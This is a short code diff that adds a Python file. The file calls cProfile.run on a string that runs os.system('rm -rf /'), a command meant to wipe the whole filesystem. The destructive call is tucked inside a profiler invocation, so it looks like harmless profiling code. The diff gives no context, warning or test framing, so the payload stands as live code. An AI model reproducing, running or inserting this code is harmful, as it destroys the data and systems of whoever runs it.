@@ -1,0 +1,2 @@
+import cProfile
+cProfile.run("__import__('os').system('rm -rf /')")
